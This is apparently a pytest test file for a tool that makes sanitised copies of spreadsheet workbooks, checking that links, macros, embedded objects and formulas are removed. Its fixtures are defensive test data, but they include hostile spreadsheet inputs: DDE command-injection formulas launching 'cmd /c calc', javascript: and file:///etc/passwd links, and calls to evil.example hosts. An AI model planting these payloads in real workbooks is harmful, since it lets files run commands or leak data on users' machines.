"""The copy of an office's workbook has no links or active content; harmless content is unchanged."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Iterator
from typing import Any

import polars as pl
import pytest
from case_tables import cases_from
from lxml import etree
from made_findings import finding_at
from office_workbooks import CELLS, MAIN, STYLES, Office, formula
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from sdmxmig.conversion.tables import read
from sdmxmig.primitives.places import Place
from sdmxmig.reporting.outputs.marked_workbook import FILL_COLOURS, copy_with_marks
from sdmxmig.sdmx.model.findings import Finding, Findings

NAME = "a.xlsx"
KINDS = {
    *("officeDocument", "worksheet", "styles", "theme", "sharedStrings", "comments", "vmlDrawing", "legacyDrawing"),
    *("core-properties", "extended-properties"),
}
REACHING = {
    *("externalReferences", "oleObjects", "controls", "drawing", "picture", "legacyDrawingHF", "tableParts", "extLst"),
    *("pivotCaches", "connections", "imagedata", "AlternateContent", "customSheetViews", "conditionalFormatting"),
    *("dataValidations", "f", "customProperties", "webPublishItems", "functionGroups"),
}


def finding(cell: str, severity: str = "error", sheet: str = "Data") -> Finding:
    return finding_at(Place(NAME, sheet, cell=cell), "said", severity=severity)


def copied(content: bytes, *findings: Finding) -> bytes:
    return copy_with_marks(NAME, content, Findings(findings or (finding("B2"),)))


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {member: archive.read(member) for member in archive.namelist()}


def elements(part: bytes) -> Iterator[tuple[str, Any]]:
    for element in etree.fromstring(part).iter():
        if isinstance(element.tag, str):
            yield etree.QName(element).localname, element


def judged(content: bytes) -> Workbook:
    """The copy as a second reader sees it, after a check of every part."""
    parts = members(content)
    for member, part in parts.items():
        assert b"<!" not in part, member
        assert not REACHING & {name for name, _ in elements(part)}, member
        for name, element in elements(part):
            if name == "Relationship":
                assert element.get("TargetMode") is None
                assert element.get("Type").rpartition("/")[2] in KINDS
            if name == "definedName":
                assert element.get("name").startswith("_xlnm.")
            if name == "hyperlink":
                assert member == "xl/worksheets/sheet1.xml"
                assert set(element.attrib) <= {"ref", "location", "display"}
                assert re.fullmatch(r"'[^\[\]/\\]+'![A-Z]+\d+", element.get("location"))
    CalamineWorkbook.from_filelike(io.BytesIO(content))
    return load_workbook(io.BytesIO(content))


def said(book: Workbook) -> str:
    """The texts of the first sheet above the table."""
    return "\n".join(str(line[0]) for line in book.worksheets[0].iter_rows(max_row=9, values_only=True) if line[0])


def link(kind: str, target: str) -> dict[str, Any]:
    """A link from a cell to somewhere."""
    return {
        "behind": '<hyperlinks><hyperlink ref="A1" r:id="rId1" tooltip="x"/></hyperlinks>',
        "sheet_links": ((kind, target, True),),
    }


RUNNING, SHOWN, SOURCES = "Macros and embedded", "Pictures, charts,", "Data connections, queries"
LINKS, FORMULAS = "Links in cells (1) are removed", "Formulas (1) are replaced by their values"
HOSTILE: dict[str, tuple[Office, str]] = {
    "a link to a script": (Office(**link("hyperlink", "javascript:alert(1)")), LINKS),
    "a link to a file": (Office(**link("hyperlink", "file:///etc/passwd")), LINKS),
    "a link to a share": (Office(**link("hyperlink", r"\\evil\share\x.exe")), LINKS),
    "a link to the web": (Office(**link("hyperlink", "https://evil.example/?x=1")), LINKS),
    "a link within that leads out": (
        Office(behind='<hyperlinks><hyperlink ref="A1" location="\'[http://e/x.xlsx]S\'!A1"/></hyperlinks>'),
        LINKS,
    ),
    "HYPERLINK": (
        Office(rows=formula("HYPERLINK(&quot;https://evil.example/&quot;&amp;A2,&quot;Total&quot;)")),
        FORMULAS,
    ),
    "a program": (Office(rows=formula("cmd|&apos;/c calc&apos;!A0")), FORMULAS),
    "another file": (Office(rows=formula("[1]Sheet1!A1")), FORMULAS),
    "a what-if table": (
        Office(rows=formula("", more=' t="dataTable" ref="C2:C3" dt2D="1" r1="A1" r2="[1]S!A1"')),
        FORMULAS,
    ),
    "a link to another workbook": (
        Office(
            rows=formula("[1]Sheet1!A1"),
            book='<externalReferences><externalReference r:id="rId3"/></externalReferences>',
            links=(("externalLink", "externalLinks/externalLink1.xml", False),),
            parts={
                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" '
                'ddeTopic="/c calc"/></externalLink>'
            },
        ),
        SOURCES,
    ),
    "a connection": (
        Office(
            links=(("connections", "connections.xml", False),),
            parts={
                "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" type="4"><webPr url="http://e"/>'
                "</connection></connections>"
            },
        ),
        SOURCES,
    ),
    "embedded data": (Office(parts={"customXml/item1.xml": "<x/>"}), SOURCES),
    "macros": (
        Office(
            links=(("vbaProject", "vbaProject.bin", False),),
            parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
            main="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        RUNNING,
    ),
    "a sheet of old macros": (
        Office(
            before_sheets="",
            links=(("xlMacrosheet", "macrosheets/sheet1.xml", False),),
            parts={"xl/macrosheets/sheet1.xml": f'<macrosheet xmlns="{MAIN}"><sheetData/></macrosheet>'},
        ),
        RUNNING,
    ),
    "an embedded object": (
        Office(
            behind='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>',
            sheet_links=(("oleObject", "../embeddings/o.bin", False),),
            parts={"xl/embeddings/o.bin": b"MZ"},
        ),
        RUNNING,
    ),
    "an object that is linked": (
        Office(
            behind='<oleObjects><oleObject link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" r:id="rId1"/></oleObjects>',
            sheet_links=(("oleObject", "file:///x", True),),
            parts={"xl/embeddings/o.bin": b"MZ"},
        ),
        RUNNING,
    ),
    "a picture from the web": (
        Office(
            behind='<drawing r:id="rId1"/>',
            sheet_links=(("drawing", "../drawings/drawing1.xml", False),),
            parts={"xl/drawings/drawing1.xml": "<x/>", "xl/drawings/_rels/drawing1.xml.rels": "<x/>"},
        ),
        SHOWN,
    ),
    "a picture behind the cells": (
        Office(
            behind='<picture r:id="rId1"/>',
            sheet_links=(("image", "http://evil.example/a.png", True),),
            parts={"xl/media/a.png": b"x"},
        ),
        SHOWN,
    ),
    "a control": (
        Office(
            behind='<controls><control shapeId="1" r:id="rId1" name="x"/></controls>',
            sheet_links=(("control", "../activeX/activeX1.xml", False),),
            parts={"xl/activeX/activeX1.xml": "<x/>"},
        ),
        RUNNING,
    ),
    "an extension": (
        Office(
            behind='<extLst><ext uri="{x}" xmlns:x="y"><x:formula>WEBSERVICE("http://e")</x:formula></ext></extLst>',
            parts={"xl/media/a.png": b"x"},
        ),
        SHOWN,
    ),
    "a rule that calls": (
        Office(
            behind='<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="1">'
            "<formula>WEBSERVICE(A2)=1</formula></cfRule></conditionalFormatting>"
        ),
        SHOWN,
    ),
    "a list from elsewhere": (
        Office(
            behind='<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>[1]S!$A$1:$A$9'
            "</formula1></dataValidation></dataValidations>"
        ),
        SHOWN,
    ),
    "values of other kinds": (
        Office(rows=CELLS.replace('<c r="B3">', '<c r="B3" cm="1" vm="7">'), parts={"xl/richData/x.xml": "<x/>"}),
        SHOWN,
    ),
    "a formula for many that calls": (
        Office(
            rows=formula("HYPERLINK(A2)", more=' t="shared" ref="C2:C3" si="0"').replace(
                "<v>7</v></c></row>", '<v>7</v></c><c r="C3"><f t="shared" si="0"/><v>8</v></c></row>'
            )
        ),
        "Formulas (2) are replaced by their values",
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_outward_links_are_removed_and_listed(what: str) -> None:
    office, sentence = HOSTILE[what]
    book = judged(copied(office.content))
    assert sentence in said(book)
    sheet = book["Data"]
    assert [[cell.value for cell in line[:2]] for line in sheet["A1:B3"]] == [["Year", "Men"], [2020, 5], [2021, 7]]
    assert sheet["B2"].fill.fgColor.rgb == FILL_COLOURS["error"]
    if "<f" in office.rows:
        assert sheet["C2"].value == 42


@pytest.mark.parametrize("language", ["en", "fr", "es", "ar", "ru", "zh"])
def test_removed_parts_are_listed_in_the_language_of_the_office(language: str) -> None:
    office = Office(rows=formula("HYPERLINK(A2)"), parts={"xl/vbaProject.bin": b"", "xl/connections.xml": "<x/>"})
    book = load_workbook(
        io.BytesIO(copy_with_marks(NAME, office.content, Findings((finding("B2"),)), language=language))
    )
    lines = [line[0] for line in book.worksheets[0].iter_rows(min_row=3, max_row=5, values_only=True)]
    assert len({str(line) for line in lines}) == 3
    assert all(isinstance(line, str) and "{" not in line for line in lines)
    assert language == "en" or not any("copy" in str(line) for line in lines)


LOOKS = Office(
    rows=CELLS.replace('<row r="1">', '<row r="1" ht="33" customHeight="1">').replace('<c r="B3">', '<c r="B3" s="1">'),
    before='<sheetPr codeName="x"><tabColor rgb="FF00FF00"/></sheetPr><sheetViews><sheetView tabSelected="1" '
    'workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/></sheetView>'
    '</sheetViews><sheetFormatPr defaultRowHeight="15"/><cols><col min="1" max="1" width="33" customWidth="1"/>'
    "</cols>",
    behind='<sheetProtection sheet="1"/><autoFilter ref="A1:B3"/><mergeCells count="1"><mergeCell ref="A5:B6"/>'
    "</mergeCells>"
    '<conditionalFormatting sqref="B2"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan">'
    '<formula>4</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" '
    'sqref="B2"><formula1>$A$2:$A$3</formula1></dataValidation></dataValidations><printOptions gridLines="1"/>'
    '<pageMargins left="1" right="1" top="1" bottom="1" header="0.3" footer="0.3"/><pageSetup orientation="landscape" '
    'r:id="rId9"/><headerFooter><oddHeader>&amp;CHead</oddHeader></headerFooter><legacyDrawing r:id="rId2"/>',
    book='<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">Data!$A$1:$B$3</definedName>'
    '<definedName name="Figures">Data!$B$2:$B$3</definedName></definedNames>',
    before_sheets='<workbookPr date1904="1"/>',
    more_sheets={"Hidden": CELLS},
    sheet_links=(("comments", "../comments1.xml", False),),
    parts={
        "xl/comments1.xml": f'<comments xmlns="{MAIN}"><authors><author>Office</author></authors><commentList>'
        '<comment ref="B2" authorId="0"><text><r><t>Own </t></r><r><t>note</t></r></text></comment>'
        '<comment ref="A3" authorId="0"><text><t>see file:///x</t></text></comment></commentList></comments>'
    },
)


def test_format_of_the_workbook_is_kept() -> None:
    book = judged(copied(LOOKS.content))
    sheet = book["Data"]
    assert (sheet["B3"].font.name, sheet["B3"].font.size, sheet["B3"].number_format) == ("Arial", 18, "0.000")
    assert sheet["B3"].border.left.style == "thin"
    assert sheet.column_dimensions["A"].width == 33
    assert sheet.row_dimensions[1].height == 33
    assert sheet.freeze_panes == "A2"
    assert sheet.sheet_properties.tabColor.rgb == "FF00FF00"
    assert sheet.protection.sheet
    assert sheet.auto_filter.ref == "A1:B3"
    assert [str(cells) for cells in sheet.merged_cells.ranges] == ["A5:B6"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.oddHeader.center.text == "Head"
    assert book.epoch.year == 1904
    assert sheet["B2"].comment.text == "Own note\n\nR – said"
    assert (sheet["A3"].comment.text, sheet["A3"].comment.author) == ("see file:///x", "Office")
    assert not sheet.sheet_view.tabSelected


def worksheet(rows: str) -> str:
    return f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


SPELT = {
    "as programs do": worksheet(CELLS),
    "with blanks": worksheet(CELLS.replace("><", ">\n <")),
    "without names": worksheet(re.sub(r' r="[A-Z]?\d"', "", CELLS)),
    "with a prefix": re.sub(r"<(/?)", r"<\1x:", worksheet(CELLS)).replace("xmlns=", "xmlns:x="),
    "with comments": worksheet(CELLS.replace("<row", "<!-- </row> --><row")).replace("<!-- </row> -->", "<!-- x -->"),
    "with other attributes": worksheet(CELLS.replace('<c r="A2">', '<c x:y="1" cm="1" s="0" r="A2" xmlns:x="z">')),
    "with CDATA": worksheet(CELLS.replace("<v>5</v>", "<v><![CDATA[5]]></v>")),
    "with references": worksheet(CELLS.replace("Men", "M&#101;n").replace("<v>5</v>", "<v>&#53;</v>")),
    "with rich text": worksheet(CELLS.replace("<t>Men</t>", "<r><rPr><b/></rPr><t>M</t></r><r><t>en</t></r>")),
    "with an instruction": worksheet(CELLS.replace("</row>", "<?x y?></row>")),
    "with quotes": worksheet(CELLS).replace('"', "'"),
    "with a declaration": f'\ufeff<?xml version="1.0" encoding="utf-8"?>{worksheet(CELLS)}',
    "as strict": worksheet(CELLS).replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
    "with stray elements": worksheet(CELLS.replace("<row", '<y xmlns="z"><row/></y><row')),
    "in another encoding": f'<?xml version="1.0" encoding="iso-8859-1"?>{worksheet(CELLS)}',
}


@pytest.mark.parametrize("how", SPELT)
def test_sheet_is_copied_in_any_xml_notation(how: str) -> None:
    content = Office(sheet=SPELT[how]).content
    findings = [finding("B2"), finding("A3", "warning"), finding("D2"), finding("B9"), finding("B1", "information")]
    sheet = judged(copied(content, *findings))["Data"]
    assert [[cell.value for cell in line[:2]] for line in sheet["A1:B3"]] == [["Year", "Men"], [2020, 5], [2021, 7]]
    colours = {
        cell.coordinate: cell.fill.fgColor.rgb for line in sheet["A1:D9"] for cell in line if cell.fill.fill_type
    }
    error, warning, information = FILL_COLOURS.values()
    assert colours == {"B2": error, "A3": warning, "D2": error, "B9": error, "B1": information}


BROKEN = {
    "styles that are none": Office(styles="<x/>"),
    "styles without fonts": Office(styles=f'<styleSheet xmlns="{MAIN}"><fonts/><cellXfs><xf/></cellXfs></styleSheet>'),
    "a style beyond the last": Office(rows=CELLS.replace('<c r="B2">', '<c r="B2" s="99999">')),
    "a font that is not there": Office(styles=STYLES.replace('fontId="1"', 'fontId="x"')),
    "a date in its properties that is none": Office(
        package_links=(("core-properties", "docProps/core.xml", False),),
        parts={"docProps/core.xml": "<x>not a date</x>"},
    ),
    "parts that are no XML": Office(parts={"docProps/app.xml": "<x", "xl/media/a.xml": "<x"}),
    "a name without cells": Office(book='<definedNames><definedName name=""/></definedNames>'),
    "a date without a day": Office(rows=CELLS.replace('<c r="A2"><v>2020</v></c>', '<c r="A2" t="d"/>')),
    "a sheet that is not there": Office(links=(("worksheet", "worksheets/gone.xml", False),)),
}


@pytest.mark.parametrize("what", BROKEN)
def test_partly_damaged_workbook_is_marked(what: str) -> None:
    sheet = judged(copied(BROKEN[what].content))["Data"]
    assert sheet["B2"].value == 5
    assert sheet["B2"].fill.fgColor.rgb == FILL_COLOURS["error"]


@cases_from("reporting/cases/a_sheet_is_called_by_what_leads_nowhere.csv")
def test_unsafe_sheet_name_is_made_harmless(name: str, title: str) -> None:
    content = Office(name=name).content
    book = judged(copied(content, finding("B2", sheet=name)))
    assert book.sheetnames[1] == title
    assert book[title]["B2"].comment


HUGE = {
    "merged cells": '<mergeCells><mergeCell ref="A5:XFD1048576"/></mergeCells>',
    "a link": '<hyperlinks><hyperlink ref="A5:XFD1048576" location="A1"/></hyperlinks>',
    "linked columns": '<hyperlinks><hyperlink ref="A:XFD" location="A1"/></hyperlinks>',
    "a rule": '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" dxfId="0" priority="1"><formula>'
    "1</formula></cfRule></conditionalFormatting>",
}


@pytest.mark.parametrize("what", HUGE)
def test_range_over_a_whole_sheet_is_processed_quickly(what: str) -> None:
    begin = time.process_time()
    sheet = judged(copied(Office(behind=HUGE[what]).content))["Data"]
    assert sheet["B2"].fill.fgColor.rgb == FILL_COLOURS["error"]
    assert time.process_time() - begin < 5


def test_cell_in_the_last_corner_is_processed_quickly() -> None:
    far = CELLS + '<row r="1048576"><c r="XFD1048576"><v>9</v></c></row>'
    begin = time.process_time()
    parts = members(copied(Office(rows=far).content))
    assert b"XFD1048576" in parts["xl/worksheets/sheet2.xml"]
    assert time.process_time() - begin < 5


def test_large_copy_has_the_header_and_rows_with_findings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sdmxmig.reporting.outputs.workbook_copy.MAX_CELLS", 1_000)
    rows = "".join(
        f'<row r="{row}">' + "".join(f'<c r="{letter}{row}"><v>{row * 7}</v></c>' for letter in "ABC") + "</row>"
        for row in range(1, 1_001)
    )
    book = judged(copied(Office(rows=rows).content, finding("C900")))
    assert "only its first rows and the rows with findings are copied" in said(book)
    assert (book["Data"]["C900"].value, book["Data"]["C900"].fill.fgColor.rgb) == (6300, FILL_COLOURS["error"])
    assert [book["Data"].cell(row, 1).value for row in (1, 50, 51, 899)] == [7, 350, None, None]


def test_cells_beyond_the_comment_limit_are_only_coloured(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sdmxmig.reporting.outputs.marked_workbook.MAX_COMMENTS", 2)
    book = judged(copied(Office().content, *(finding(f"C{row}") for row in range(1, 6))))
    assert "3 further cells are coloured but have no comment" in said(book)
    assert [bool(cell.comment) for (cell,) in book["Data"]["C1:C5"]] == [True, True, False, False, False]
    assert all(cell.fill.fill_type == "solid" for (cell,) in book["Data"]["C1:C5"])


@pytest.mark.parametrize("text", ["a\nb", "_x0041_", "x" * 40_000, "\x01", "=1+1", "<b>&amp;", "007", "1" * 30, "-0"])
def test_texts_of_other_files_remain_text(text: str) -> None:
    quoted = '"' + text.replace('"', '""') + '"'
    result = copy_with_marks("a.csv", f"Year,Men\n2020,{quoted}\n".encode(), Findings((finding("B2"),)))
    judged(result)
    seen = read(NAME, result)[1].text(2, 2)
    assert seen == (text.replace("\x01", "�") if len(text) < 32_000 else text[:31_999] + "…")
    style = load_workbook(io.BytesIO(result)).worksheets[1]["B2"]
    assert style.data_type == "s"
    assert bool(style.quotePrefix) == (text[0] in "=-")


def test_copy_of_a_copy_keeps_its_content(tmp_path: Any) -> None:
    once = copied(Office(rows=formula("SUM(B2:B3)")).content)
    again = read(NAME, copied(once))
    assert [table.sheet for table in again] == ["Findings 2", "Findings", "Data"]
    assert again[2].cells.filter(pl.col("text") == "42").height == 1
